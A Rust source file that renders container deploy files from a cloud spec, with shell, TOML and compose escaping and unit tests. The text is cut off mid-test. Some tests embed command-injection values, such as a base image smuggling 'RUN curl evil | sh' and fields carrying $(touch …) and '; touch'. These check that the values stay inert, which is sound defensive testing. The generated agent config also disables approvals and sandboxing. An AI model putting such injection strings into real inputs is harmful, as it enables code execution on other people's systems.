//! Deploy-dir rendering: the files a provider builds and runs, produced from a [`CloudSpec`].
//!
//! Every file comes from a template in `daemon/templates/` (compiled in with `include_str!`)
//! filled by `fill`, a one-pass `{{NAME}}` substitution. Values are escaped for the language
//! they land in before substitution: shell words with [`crate::shell::quote`], codex's
//! config.toml strings with `toml_quote`, compose values with `compose_quote`. The Dockerfile
//! takes `image.base` and the custom toolchain snippets verbatim: they are Dockerfile text by
//! definition.
//!
//! What can go wrong is a [`RenderError`]; the wire type [`ErrorBody`] is made from it in one
//! place (`impl From<RenderError> for ErrorBody`), which picks the error code and the `field` /
//! `file` / `path` extra fields the end-to-end tests pin.

use crate::cloud_yaml::{CloudSpec, ProviderKind, Toolchain};
use crate::shell;
use megaplan_cloud_api::{ErrorBody, ErrorCode};
use std::fs;
use std::io::Write;
use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};

const DOCKERFILE_TMPL: &str = include_str!("../templates/Dockerfile.tmpl");
const ENTRYPOINT_TMPL: &str = include_str!("../templates/entrypoint.sh.tmpl");
const HEALTH_SERVER_PY: &str = include_str!("../templates/health_server.py");
const COMPOSE_TMPL: &str = include_str!("../templates/docker-compose.yaml.tmpl");
const RAILWAY_TOML: &str = include_str!("../templates/railway.toml.tmpl");
const TOOLCHAIN_RUST: &str = include_str!("../templates/toolchains/rust.Dockerfile");
const TOOLCHAIN_GO: &str = include_str!("../templates/toolchains/go.Dockerfile");
const TOOLCHAIN_JAVA: &str = include_str!("../templates/toolchains/java.Dockerfile");

pub const DOCKERFILE: &str = "Dockerfile";
pub const ENTRYPOINT: &str = "entrypoint.sh";
pub const HEALTH_SERVER: &str = "health_server.py";
pub const COMPOSE_FILE: &str = "docker-compose.yaml";
pub const RAILWAY_FILE: &str = "railway.toml";
/// The env file `docker-compose.yaml` names; the local provider's deploy fills it.
pub const ENV_FILE: &str = ".env";

/// Why the deploy files could not be rendered or written.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RenderError {
    /// `image.dockerfile` of the cloud.yaml `spec_file` names a file that cannot be read.
    #[error(
        "{}: cannot read image.dockerfile {}: {why}; fix the path (absolute, or relative to the cloud.yaml folder) or remove image.dockerfile to use the rendered Dockerfile",
        .spec_file.display(),
        .dockerfile.display()
    )]
    DockerfileUnreadable {
        spec_file: PathBuf,
        dockerfile: PathBuf,
        why: String,
    },

    /// `image.base` is not one image reference.
    #[error(
        "{}: image.base must be one image reference such as python:3.11-slim-bookworm, found {base:?}",
        .spec_file.display()
    )]
    BadBaseImage { spec_file: PathBuf, base: String },

    /// A `toolchains` entry names an alias this daemon has no snippet for.
    #[error(
        "{}: unknown toolchain alias {alias:?}; known aliases: {}",
        .spec_file.display(),
        crate::cloud_yaml::TOOLCHAIN_ALIASES.join(", ")
    )]
    UnknownToolchain { spec_file: PathBuf, alias: String },

    /// The deploy dir (or a file or folder in it) could not be created or written; `action`
    /// says what ("create the deploy dir", "write").
    #[error(
        "cannot {action} at {}: {why}; check that the folder is writable and the disk has space (or set $MEGAPLAN_CLOUD_HOME)",
        .path.display()
    )]
    Storage {
        path: PathBuf,
        action: &'static str,
        why: String,
    },

    /// A template names a placeholder `fill` was given no value for (a bug here).
    #[error(
        "template {template} has a placeholder {{{{{key}}}}} with no value; this is a megaplan-cloudd bug"
    )]
    PlaceholderWithoutValue { template: String, key: String },

    /// `fill` was given a value its template has no placeholder for (a bug here).
    #[error("template {template} has no placeholder {{{{{key}}}}}; this is a megaplan-cloudd bug")]
    ValueWithoutPlaceholder { template: String, key: String },
}

impl RenderError {
    /// The wire error code this error is answered with.
    pub fn code(&self) -> ErrorCode {
        match self {
            RenderError::DockerfileUnreadable { .. }
            | RenderError::BadBaseImage { .. }
            | RenderError::UnknownToolchain { .. } => ErrorCode::InvalidSpec,
            RenderError::Storage { .. } => ErrorCode::StorageFailed,
            RenderError::PlaceholderWithoutValue { .. }
            | RenderError::ValueWithoutPlaceholder { .. } => ErrorCode::Internal,
        }
    }
}

/// The one place a render failure becomes a wire error: code, message and `extra` fields.
impl From<RenderError> for ErrorBody {
    fn from(e: RenderError) -> Self {
        let body = ErrorBody::new(e.code(), e.to_string());
        match &e {
            RenderError::DockerfileUnreadable { dockerfile, .. } => body
                .with("field", "image.dockerfile")
                .with("file", dockerfile.display().to_string()),
            RenderError::BadBaseImage { .. } => body.with("field", "image.base"),
            RenderError::UnknownToolchain { .. } => body.with("field", "toolchains"),
            RenderError::Storage { path, .. } => body.with("path", path.display().to_string()),
            RenderError::PlaceholderWithoutValue { .. }
            | RenderError::ValueWithoutPlaceholder { .. } => body,
        }
    }
}

/// One file of a deploy dir.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedFile {
    pub name: String,
    pub content: Vec<u8>,
    /// Unix permission bits to set on the written file.
    pub mode: u32,
}

impl RenderedFile {
    fn new(name: &str, content: impl Into<Vec<u8>>, mode: u32) -> Self {
        RenderedFile {
            name: name.to_string(),
            content: content.into(),
            mode,
        }
    }
}

/// Every file of the deploy dir for this spec: `Dockerfile`, `entrypoint.sh` (0755),
/// `health_server.py`, plus `docker-compose.yaml` for provider local and `railway.toml` for
/// railway. When `image.dockerfile` is set, its bytes replace the rendered Dockerfile.
pub fn render(spec: &CloudSpec) -> Result<Vec<RenderedFile>, RenderError> {
    let mut files = vec![
        RenderedFile::new(DOCKERFILE, dockerfile(spec)?, 0o644),
        RenderedFile::new(ENTRYPOINT, entrypoint(spec)?, 0o755),
        RenderedFile::new(HEALTH_SERVER, HEALTH_SERVER_PY, 0o644),
    ];
    match spec.provider {
        ProviderKind::Local => files.push(RenderedFile::new(COMPOSE_FILE, compose(spec)?, 0o644)),
        ProviderKind::Railway => files.push(RenderedFile::new(RAILWAY_FILE, RAILWAY_TOML, 0o644)),
        ProviderKind::Ssh | ProviderKind::Kubernetes => {}
    }
    Ok(files)
}

/// Write the rendered files into `dir` (created 0700 when missing), each atomically (temp file
/// in `dir`, then rename) with its mode. Other files in `dir` are left alone; for provider
/// local, the bind-mounted `local.workdir` folder and an empty `.env` are created when missing,
/// because `docker compose` refuses a project whose bind source or env file does not exist.
/// Returns the paths of the rendered files.
pub fn write_deploy_dir(spec: &CloudSpec, dir: &Path) -> Result<Vec<PathBuf>, RenderError> {
    let files = render(spec)?;
    fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(dir)
        .map_err(|e| storage_error(dir, "create the deploy dir", &e))?;
    let mut written = Vec::with_capacity(files.len());
    for file in &files {
        written.push(write_atomic(dir, file)?);
    }
    if spec.provider == ProviderKind::Local {
        let workdir = dir.join(&spec.local.workdir);
        fs::DirBuilder::new()
            .recursive(true)
            .mode(0o755)
            .create(&workdir)
            .map_err(|e| storage_error(&workdir, "create the local.workdir folder", &e))?;
        let env_file = dir.join(ENV_FILE);
        match fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .open(&env_file)
        {
            Ok(_) => {}
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {}
            Err(e) => return Err(storage_error(&env_file, "create the env file", &e)),
        }
    }
    Ok(written)
}

/// The persistent deploy dir (docs/operations.md, "Files"): local → `<cloud_home>/<compose_project>/`,
/// ssh → `<cloud_home>/ssh-<host>/`; railway → `None` (the caller uses a temporary dir).
/// A `/` in the ssh host (never a valid host, but not refused by the loader) becomes `_` so the
/// dir stays directly under `cloud_home`.
pub fn persistent_deploy_dir(spec: &CloudSpec, cloud_home: &Path) -> Option<PathBuf> {
    match spec.provider {
        ProviderKind::Local => Some(cloud_home.join(&spec.local.compose_project)),
        ProviderKind::Ssh => spec
            .ssh
            .as_ref()
            .map(|ssh| cloud_home.join(format!("ssh-{}", ssh.host.replace('/', "_")))),
        ProviderKind::Railway | ProviderKind::Kubernetes => None,
    }
}

fn storage_error(path: &Path, action: &'static str, e: &std::io::Error) -> RenderError {
    RenderError::Storage {
        path: path.to_path_buf(),
        action,
        why: e.to_string(),
    }
}

fn write_atomic(dir: &Path, file: &RenderedFile) -> Result<PathBuf, RenderError> {
    let dest = dir.join(&file.name);
    let mut tmp = tempfile::Builder::new()
        .prefix(&format!(".{}.", file.name))
        .suffix(".tmp")
        .tempfile_in(dir)
        .map_err(|e| storage_error(dir, "create a temporary file", &e))?;
    tmp.write_all(&file.content)
        .and_then(|()| tmp.as_file().sync_all())
        .and_then(|()| fs::set_permissions(tmp.path(), fs::Permissions::from_mode(file.mode)))
        .map_err(|e| storage_error(&dest, "write", &e))?;
    tmp.persist(&dest)
        .map_err(|e| storage_error(&dest, "replace", &e.error))?;
    Ok(dest)
}

fn dockerfile(spec: &CloudSpec) -> Result<Vec<u8>, RenderError> {
    if let Some(path) = &spec.image.dockerfile {
        return crate::cloud_yaml::read_bounded(path, crate::cloud_yaml::MAX_INPUT_BYTES).map_err(
            |e| RenderError::DockerfileUnreadable {
                spec_file: spec.path.clone(),
                dockerfile: path.clone(),
                why: e.to_string(),
            },
        );
    }
    let base = &spec.image.base;
    if base.is_empty() || base.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err(RenderError::BadBaseImage {
            spec_file: spec.path.clone(),
            base: base.clone(),
        });
    }
    let mut toolchains = String::new();
    for toolchain in &spec.toolchains {
        if !toolchains.is_empty() {
            // A blank line between blocks.
            toolchains.push('\n');
        }
        let block = match toolchain {
            Toolchain::Alias(alias) => {
                alias_block(alias).ok_or_else(|| RenderError::UnknownToolchain {
                    spec_file: spec.path.clone(),
                    alias: alias.clone(),
                })?
            }
            Toolchain::Custom { name, install } => {
                toolchains.push_str(&format!("# toolchain: {}\n", comment_text(name)));
                install
            }
        };
        toolchains.push_str(block);
        if !block.ends_with('\n') {
            toolchains.push('\n');
        }
    }
    let port = spec.resources.port.to_string();
    fill(
        "Dockerfile.tmpl",
        DOCKERFILE_TMPL,
        &[
            ("BASE_IMAGE", base),
            ("TOOLCHAINS", &toolchains),
            ("PORT", &port),
        ],
    )
    .map(String::into_bytes)
}

fn alias_block(alias: &str) -> Option<&'static str> {
    match alias {
        "rust" => Some(TOOLCHAIN_RUST),
        "go" => Some(TOOLCHAIN_GO),
        "java" => Some(TOOLCHAIN_JAVA),
        _ => None,
    }
}

/// A toolchain name on one comment line: a newline in it would end the comment and turn the
/// rest into a Dockerfile instruction.
fn comment_text(s: &str) -> String {
    s.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn entrypoint(spec: &CloudSpec) -> Result<String, RenderError> {
    let q = |s: &str| shell::quote(s);
    let opt = |s: &Option<String>| shell::quote(s.as_deref().unwrap_or(""));
    let extra = &spec.extra_repos;
    let extra_urls = shell::join(&extra.iter().map(|r| r.url.as_str()).collect::<Vec<_>>());
    let extra_branches = shell::join(&extra.iter().map(|r| r.branch.as_str()).collect::<Vec<_>>());
    let extra_paths = shell::join(&extra.iter().map(|r| r.path.as_str()).collect::<Vec<_>>());
    // `default` first, then the per-step overrides, so a step override wins when both apply.
    let routes: Vec<(&str, &str)> = std::iter::once(("default", spec.agents.default.as_str()))
        .chain(
            spec.agents
                .steps
                .iter()
                .map(|(step, agent)| (step.as_str(), agent.as_str())),
        )
        .collect();
    let agent_steps = shell::join(&routes.iter().map(|(s, _)| *s).collect::<Vec<_>>());
    let agent_names = shell::join(&routes.iter().map(|(_, a)| *a).collect::<Vec<_>>());
    let port = spec.resources.port.to_string();
    let codex_auth_toml = codex_auth_toml(&spec.megaplan.codex_auth);
    fill(
        "entrypoint.sh.tmpl",
        ENTRYPOINT_TMPL,
        &[
            ("REPO_URL_Q", &q(&spec.repo.url)),
            ("REPO_BRANCH_Q", &q(&spec.repo.branch)),
            ("WORKSPACE_Q", &q(&spec.repo.workspace)),
            ("MODE_Q", &q(spec.mode.as_str())),
            ("AUTO_PLAN_NAME_Q", &opt(&spec.auto.plan_name)),
            ("AUTO_IDEA_FILE_Q", &opt(&spec.auto.idea_file)),
            ("AUTO_ROBUSTNESS_Q", &q(&spec.auto.robustness)),
            ("CHAIN_SPEC_Q", &opt(&spec.chain.spec)),
            ("CODEX_MODEL_Q", &q(&spec.codex.model)),
            ("CODEX_REASONING_Q", &q(&spec.codex.reasoning)),
            ("CODEX_AUTH_Q", &q(&spec.megaplan.codex_auth)),
            ("MEGAPLAN_REF_Q", &q(&spec.megaplan.git_ref)),
            (
                "LAUNCHER_Q",
                &q(spec.megaplan.launcher.as_deref().unwrap_or("")),
            ),
            ("PORT", &port),
            ("EXTRA_REPO_URLS_Q", &extra_urls),
            ("EXTRA_REPO_BRANCHES_Q", &extra_branches),
            ("EXTRA_REPO_PATHS_Q", &extra_paths),
            ("AGENT_STEPS_Q", &agent_steps),
            ("AGENT_NAMES_Q", &agent_names),
            ("CODEX_MODEL_TOML", &toml_quote(&spec.codex.model)),
            ("CODEX_REASONING_TOML", &toml_quote(&spec.codex.reasoning)),
            ("CODEX_AUTH_TOML", codex_auth_toml),
        ],
    )
}

/// The auth lines of codex's config.toml for `megaplan.codex_auth`. `chatgpt` pins the
/// ChatGPT-subscription login so a stray OPENAI_API_KEY cannot switch codex to API billing.
fn codex_auth_toml(codex_auth: &str) -> &'static str {
    if codex_auth == "apikey" {
        "# megaplan.codex_auth: apikey (API-key billing; entrypoint.sh runs codex login --with-api-key)"
    } else {
        "preferred_auth_method = \"chatgpt\"\nforced_login_method = \"chatgpt\""
    }
}

fn compose(spec: &CloudSpec) -> Result<String, RenderError> {
    let port = spec.resources.port;
    // `none` and `host` publish nothing (compose refuses or ignores ports there).
    let network = match spec.resources.network.as_deref() {
        None => format!("    ports:\n      - \"{port}:{port}\"\n"),
        Some(net @ ("none" | "host")) => format!("    network_mode: {}\n", compose_quote(net)),
        Some(net) => format!(
            "    network_mode: {}\n    ports:\n      - \"{port}:{port}\"\n",
            compose_quote(net)
        ),
    };
    fill(
        "docker-compose.yaml.tmpl",
        COMPOSE_TMPL,
        &[
            ("WORKSPACE_YAML", &compose_quote(&spec.repo.workspace)),
            (
                "WORKDIR_YAML",
                &compose_quote(&format!("./{}", spec.local.workdir)),
            ),
            ("NETWORK", &network),
        ],
    )
}

/// A compose value as a YAML double-quoted scalar. A JSON string is a valid YAML one (every
/// control character escaped), and `$` is doubled because compose interpolates `$VAR` in
/// every value.
fn compose_quote(s: &str) -> String {
    let escaped = s.replace('$', "$$");
    serde_json::to_string(&escaped).unwrap_or_else(|_| "\"\"".to_string())
}

/// A TOML basic string: quotes and backslashes escaped, control characters (which TOML
/// forbids raw, DEL included) as escapes, so the value stays on one line.
fn toml_quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{8}' => out.push_str("\\b"),
            '\u{c}' => out.push_str("\\f"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Replace each `{{NAME}}` (upper-case letters, digits, `_`) in `template` with its value, in
/// one pass: a value that itself contains `{{...}}` is never expanded again. Any other `{{`
/// is kept as text. A placeholder without a value, or a value without a placeholder, is a
/// bug in this module and reported as such instead of producing a half-rendered file.
fn fill(
    template_name: &str,
    template: &str,
    values: &[(&str, &str)],
) -> Result<String, RenderError> {
    let mut used = vec![false; values.len()];
    let mut out = String::with_capacity(template.len() + 256);
    let mut rest = template;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let key_len = after
            .bytes()
            .take_while(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b'_')
            .count();
        if key_len > 0 && after[key_len..].starts_with("}}") {
            let key = &after[..key_len];
            let Some(index) = values.iter().position(|(k, _)| *k == key) else {
                return Err(RenderError::PlaceholderWithoutValue {
                    template: template_name.to_string(),
                    key: key.to_string(),
                });
            };
            used[index] = true;
            out.push_str(values[index].1);
            rest = &after[key_len + 2..];
        } else {
            out.push_str("{{");
            rest = after;
        }
    }
    out.push_str(rest);
    if let Some(index) = used.iter().position(|u| !u) {
        return Err(RenderError::ValueWithoutPlaceholder {
            template: template_name.to_string(),
            key: values[index].0.to_string(),
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cloud_yaml::parse_bytes;
    use std::process::{Command, Stdio};

    fn spec(yaml: &str) -> CloudSpec {
        parse_bytes(yaml.as_bytes(), Path::new("/home/op/proj/cloud.yaml"))
            .unwrap_or_else(|e| panic!("test cloud.yaml did not load: {e}\n{yaml}"))
    }

    fn file<'a>(files: &'a [RenderedFile], name: &str) -> &'a RenderedFile {
        files
            .iter()
            .find(|f| f.name == name)
            .unwrap_or_else(|| panic!("{name} not rendered"))
    }

    fn text(files: &[RenderedFile], name: &str) -> String {
        String::from_utf8(file(files, name).content.clone()).unwrap()
    }

    fn names(files: &[RenderedFile]) -> Vec<&str> {
        files.iter().map(|f| f.name.as_str()).collect()
    }

    fn entrypoint_of(yaml: &str) -> String {
        text(&render(&spec(yaml)).unwrap(), ENTRYPOINT)
    }

    /// A tool the test needs. Missing: fail when `MEGAPLAN_E2E_REQUIRED=1`, else report and
    /// let the caller skip.
    fn tool(name: &str) -> bool {
        let found = Command::new(name)
            .arg("--version")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok();
        if !found {
            assert!(
                std::env::var("MEGAPLAN_E2E_REQUIRED").as_deref() != Ok("1"),
                "{name} is required (MEGAPLAN_E2E_REQUIRED=1) but not installed"
            );
            eprintln!("skipping: {name} not installed");
        }
        found
    }

    fn run_with_stdin(cmd: &mut Command, stdin: &str) -> std::process::Output {
        let mut child = cmd
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    }

    fn assert_bash_syntax(script: &str) {
        let out = run_with_stdin(Command::new("bash").arg("-n"), script);
        assert!(
            out.status.success(),
            "bash -n failed: {}\n{script}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// The block of rendered assignments, run by bash, followed by `tail` (which prints).
    fn eval_rendered_values(script: &str, tail: &str) -> String {
        let start = script
            .find("# --- values rendered from cloud.yaml")
            .unwrap();
        let end = script.find("# --- end of rendered values ---").unwrap();
        let program = format!("set -eu\n{}\n{tail}", &script[start..end]);
        let out = Command::new("bash")
            .arg("-c")
            .arg(&program)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "bash failed: {}\n{program}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    /// The config.toml body the entrypoint writes (between its heredoc markers).
    fn codex_config(script: &str) -> String {
        let open = "<<'MEGAPLAN_CODEX_CONFIG'\n";
        let start = script.find(open).unwrap() + open.len();
        let len = script[start..].find("\nMEGAPLAN_CODEX_CONFIG\n").unwrap();
        script[start..start + len + 1].to_string()
    }

    const MINIMAL: &str = "repo:\n  url: https://github.com/example/app.git\n";

    #[test]
    fn each_provider_gets_its_files_and_modes() {
        let local = render(&spec(&format!("provider: local\n{MINIMAL}"))).unwrap();
        assert_eq!(
            names(&local),
            [DOCKERFILE, ENTRYPOINT, HEALTH_SERVER, COMPOSE_FILE]
        );
        let ssh = render(&spec(&format!(
            "provider: ssh\nssh:\n  host: box\n{MINIMAL}"
        )))
        .unwrap();
        assert_eq!(names(&ssh), [DOCKERFILE, ENTRYPOINT, HEALTH_SERVER]);
        let railway = render(&spec(MINIMAL)).unwrap();
        assert_eq!(
            names(&railway),
            [DOCKERFILE, ENTRYPOINT, HEALTH_SERVER, RAILWAY_FILE]
        );
        for f in &local {
            let want = if f.name == ENTRYPOINT { 0o755 } else { 0o644 };
            assert_eq!(f.mode, want, "{}", f.name);
        }
        let railway_toml = text(&railway, RAILWAY_FILE);
        assert!(
            railway_toml
                .contains("[build]\nbuilder = \"DOCKERFILE\"\ndockerfilePath = \"Dockerfile\"\n")
        );
        assert!(
            railway_toml.contains(
                "[deploy]\nhealthcheckPath = \"/\"\nrestartPolicyType = \"ON_FAILURE\"\n"
            )
        );
        assert_eq!(text(&railway, HEALTH_SERVER), HEALTH_SERVER_PY);
    }

    #[test]
    fn dockerfile_has_base_tooling_and_runs_the_entrypoint() {
        let files = render(&spec(&format!(
            "{MINIMAL}image:\n  base: ubuntu:24.04\nresources:\n  port: 9001\n"
        )))
        .unwrap();
        let d = text(&files, DOCKERFILE);
        assert!(d.contains("\nFROM ubuntu:24.04\n"), "{d}");
        for needle in [
            "tmux",
            "git",
            "nodejs",
            "python3",
            "githubcli-archive-keyring.gpg",
            "apt-get install -y --no-install-recommends gh",
            "COPY entrypoint.sh health_server.py /usr/local/bin/",
            "EXPOSE 9001",
            "CMD [\"/usr/local/bin/entrypoint.sh\"]",
        ] {
            assert!(d.contains(needle), "Dockerfile lacks {needle:?}\n{d}");
        }
        assert!(!d.contains("{{"), "unfilled placeholder\n{d}");
        assert!(!d.contains("# toolchain:"), "no toolchains asked for\n{d}");
    }

    #[test]
    fn default_base_image_is_used() {
        let d = text(&render(&spec(MINIMAL)).unwrap(), DOCKERFILE);
        assert!(d.contains(&format!(
            "\nFROM {}\n",
            crate::cloud_yaml::DEFAULT_BASE_IMAGE
        )));
    }

    #[test]
    fn toolchain_blocks_follow_cloud_yaml_order_and_custom_is_verbatim() {
        let custom = "RUN curl -fsSL https://example.com/tool/install.sh | bash \\\n    && tool --version\nENV TOOL_HOME=/opt/tool";
        let yaml = format!(
            "{MINIMAL}toolchains:\n  - go\n  - name: \"my\\ntool\"\n    install: {}\n  - java\n  - rust\n",
            serde_json::to_string(custom).unwrap()
        );
        let d = text(&render(&spec(&yaml)).unwrap(), DOCKERFILE);
        let pos = |needle: &str| {
            d.find(needle)
                .unwrap_or_else(|| panic!("{needle:?} missing\n{d}"))
        };
        let go = pos("# toolchain: go");
        let custom_at = pos(custom);
        let java = pos("# toolchain: java");
        let rust = pos("# toolchain: rust");
        let copy = pos("COPY entrypoint.sh");
        assert!(
            go < custom_at && custom_at < java && java < rust && rust < copy,
            "{d}"
        );
        // The name sits on one comment line; the newline in it cannot start an instruction.
        assert!(d.contains("# toolchain: my tool\n"), "{d}");
        assert!(d.contains("https://go.dev/dl/go${GO_VERSION}.linux-${arch}.tar.gz"));
        assert!(d.contains("https://sh.rustup.rs"));
        assert!(d.contains("default-jdk-headless"));
    }

    #[test]
    fn base_image_with_whitespace_is_refused() {
        let err = render(&spec(&format!(
            "{MINIMAL}image:\n  base: \"ubuntu:24.04\\nRUN curl evil | sh\"\n"
        )))
        .unwrap_err();
        let err = ErrorBody::from(err);
        assert_eq!(err.error, ErrorCode::InvalidSpec);
        assert!(err.message.contains("image.base"), "{err}");
        assert_eq!(err.extra["field"], "image.base");
    }

    #[test]
    fn operator_dockerfile_replaces_the_rendered_one() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("My.Dockerfile"), b"FROM scratch\n# mine\n").unwrap();
        let yaml = format!("provider: local\n{MINIMAL}image:\n  dockerfile: My.Dockerfile\n");
        let s = parse_bytes(yaml.as_bytes(), &dir.path().join("cloud.yaml")).unwrap();
        let files = render(&s).unwrap();
        assert_eq!(file(&files, DOCKERFILE).content, b"FROM scratch\n# mine\n");
        // The rest of the deploy dir is still rendered for it to COPY.
        assert_eq!(
            names(&files),
            [DOCKERFILE, ENTRYPOINT, HEALTH_SERVER, COMPOSE_FILE]
        );

        std::fs::remove_file(dir.path().join("My.Dockerfile")).unwrap();
        let err = ErrorBody::from(render(&s).unwrap_err());
        assert_eq!(err.error, ErrorCode::InvalidSpec);
        assert!(err.message.contains("image.dockerfile"), "{err}");
        assert!(err.message.contains("My.Dockerfile"), "{err}");
        assert_eq!(err.extra["field"], "image.dockerfile");
    }

    #[test]
    fn hostile_values_survive_literally_in_the_entrypoint() {
        let dir = tempfile::tempdir().unwrap();
        let pwned = dir.path().join("pwned");
        let url = format!(
            "https://x.test/a'b\"c$(touch {p})`touch {p}`$HOME\nsecond line; touch {p}",
            p = pwned.display()
        );
        let workspace = format!("/work space/it's \"mine\"/$(touch {})", pwned.display());
        let workspace = workspace.as_str();
        let extra_path = "/work space/extra 'one'";
        let yaml = format!(
            "repo:\n  url: {}\n  branch: \"feat/$(id)\"\n  workspace: {}\nextra_repos:\n  - url: \"git@x:{{a}}.git\"\n    path: {}\n  - https://x.test/plain.git\nagents:\n  plan: \"claude; touch {p}\"\ncodex:\n  model: \"gpt \\\"5\\\"\\\\x\\n[evil]\"\nmegaplan:\n  ref: \"v1 $(touch {p})\"\n  launcher: \"python -m arnold.pipelines.megaplan\"\n",
            serde_json::to_string(&url).unwrap(),
            serde_json::to_string(workspace).unwrap(),
            serde_json::to_string(extra_path).unwrap(),
            p = pwned.display(),
        );
        let s = spec(&yaml);
        // The loader derives it from the workspace's parent folder.
        let default_extra_path = s.extra_repos[1].path.clone();
        let script = entrypoint_of(&yaml);
        assert_bash_syntax(&script);
        let printed = eval_rendered_values(
            &script,
            r#"printf '%s\0' "$REPO_URL" "$REPO_BRANCH" "$WORKSPACE" "$MEGAPLAN_REF" "${EXTRA_REPO_URLS[@]}" "${EXTRA_REPO_PATHS[@]}" "${EXTRA_REPO_BRANCHES[@]}" "${AGENT_STEPS[@]}" "${AGENT_NAMES[@]}" "$CODEX_MODEL""#,
        );
        let got: Vec<&str> = printed.split('\0').collect();
        let want = [
            url.as_str(),
            "feat/$(id)",
            workspace,
            s.megaplan.git_ref.as_str(),
            "git@x:{a}.git",
            "https://x.test/plain.git",
            extra_path,
            &default_extra_path,
            "main",
            "main",
            "default",
            "plan",
            "codex",
            s.agents.steps["plan"].as_str(),
            "gpt \"5\"\\x\n[evil]",
            "",
        ];
        assert_eq!(got, want);
        assert!(!pwned.exists(), "a rendered value was executed");
        // The TOML value stays one quoted line: no `[evil]` table header.
        let config = codex_config(&script);
        assert!(
            config.starts_with("model = \"gpt \\\"5\\\"\\\\x\\n[evil]\"\n"),
            "{config}"
        );
        assert!(!config.lines().any(|l| l.starts_with('[')), "{config}");
    }

    #[test]
    fn rendered_entrypoints_pass_bash_n_and_shellcheck() {
        let specs = [
            MINIMAL.to_string(),
            format!(
                "{MINIMAL}mode: auto\nauto:\n  plan_name: my-plan\n  idea_file: /workspace/idea.txt\n  robustness: heavy\nmegaplan:\n  codex_auth: apikey\n"
            ),
            format!(
                "provider: local\n{MINIMAL}mode: chain\nchain:\n  spec: /workspace/app/chain.yaml\nextra_repos:\n  - https://github.com/example/lib.git\nagents:\n  default: claude\n  execute: codex\n"
            ),
            "repo:\n  url: \"it's $(x) `y`\"\n  workspace: \"/a b/c'd\"\n".to_string(),
        ];
        let shellcheck = tool("shellcheck");
        for yaml in &specs {
            let script = entrypoint_of(yaml);
            assert!(script.starts_with("#!/usr/bin/env bash\n"));
            assert!(!script.contains("{{"), "unfilled placeholder\n{script}");
            assert_bash_syntax(&script);
            if shellcheck {
                let out = run_with_stdin(
                    Command::new("shellcheck").args(["-s", "bash", "-"]),
                    &script,
                );
                assert!(
                    out.status.success(),
                    "shellcheck failed for\n{yaml}\n{}",
                    String::from_utf8_lossy(&out.stdout)
                );
            }
        }
    }

    #[test]
    fn entrypoint_carries_the_documented_steps() {
        let script = entrypoint_of(&format!(
            "{MINIMAL}mode: chain\nchain:\n  spec: /workspace/app/chain.yaml\nmegaplan:\n  ref: v2.1\n  launcher: python3 -m my.launcher\nresources:\n  port: 9123\n"
        ));
        for needle in [
            "set -euo pipefail",
            "tee -a \"$LOG_FILE\"",
            "LOG_FILE=/var/log/entrypoint.log",
            "credential.helper store",
            "DEFAULT_PORT=9123",
            "MEGAPLAN_REF=v2.1",
            "LAUNCHER='python3 -m my.launcher'",
            "MEGAPLAN_GIT_SOURCE=\"git+https://github.com/peteromallet/Arnold.git\"",
            "install_spec=\"${MEGAPLAN_INSTALL_SPEC:-$MEGAPLAN_GIT_SOURCE@$MEGAPLAN_REF}\"",
            "pip install --upgrade \"$install_spec\"",
            "SESSION_MARKER_DIR=/workspace/.megaplan/cloud-sessions",
            "MEGAPLAN_TRUSTED_CONTAINER=1 megaplan_cli chain start --spec \"$CHAIN_SPEC\"",
            "not found; dropping to idle",
            "tmux has-session -t \"=$SESSION\"",
            "echo \"tmux '$SESSION' session ready\"",
            "wait \"$HEALTH_PID\"",
        ] {
            assert!(script.contains(needle), "entrypoint lacks {needle:?}");
        }
        assert!(!script.contains("MEGAPLAN_CODEX_CONFIG\n{{"));
    }

    #[test]
    fn codex_config_follows_codex_auth() {
        let chatgpt = codex_config(&entrypoint_of(&format!(
            "{MINIMAL}codex:\n  model: gpt-5.4\n  reasoning: medium\n"
        )));
        assert_eq!(
            chatgpt,
            "model = \"gpt-5.4\"\nmodel_reasoning_effort = \"medium\"\nsandbox_mode = \"danger-full-access\"\napproval_policy = \"never\"\npreferred_auth_method = \"chatgpt\"\nforced_login_method = \"chatgpt\"\n"
        );
        let apikey_script = entrypoint_of(&format!("{MINIMAL}megaplan:\n  codex_auth: apikey\n"));
        let apikey = codex_config(&apikey_script);
        assert!(apikey.starts_with("model = \"gpt-5.4\"\nmodel_reasoning_effort = \"high\"\n"));
        assert!(!apikey.contains("auth_method"), "{apikey}");
        assert!(apikey_script.contains("CODEX_AUTH=apikey"));
        assert!(
            apikey_script.contains("printf '%s' \"$OPENAI_API_KEY\" | codex login --with-api-key")
        );
        assert!(apikey_script.contains("! -f \"$CODEX_DIR/auth.json\""));

        if tool("python3") {
            for config in [&chatgpt, &apikey] {
